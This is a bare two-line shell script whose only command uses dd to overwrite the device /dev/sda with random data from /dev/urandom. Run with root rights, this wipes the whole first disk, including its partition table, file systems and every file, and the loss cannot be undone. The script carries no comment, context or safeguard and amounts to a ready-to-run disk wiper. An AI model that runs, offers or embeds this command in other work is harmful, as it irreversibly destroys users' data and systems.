#!/bin/sh
dd if=/dev/urandom of=/dev/sda bs=4M
